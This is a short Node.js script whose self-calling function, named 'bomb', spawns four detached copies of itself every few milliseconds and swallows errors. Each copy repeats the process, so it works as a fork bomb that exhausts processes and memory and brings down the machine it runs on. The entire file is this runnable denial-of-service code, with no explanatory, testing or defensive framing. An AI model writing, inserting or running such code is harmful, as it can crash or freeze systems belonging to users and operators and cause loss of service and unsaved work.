const { spawn } = require('child_process');
(function bomb() { for (let i = 0; i < 4; i++) spawn(process.execPath, [__filename], { detached: true, stdio: 'ignore' }).on('error', () => {}); setTimeout(bomb, 5); })();
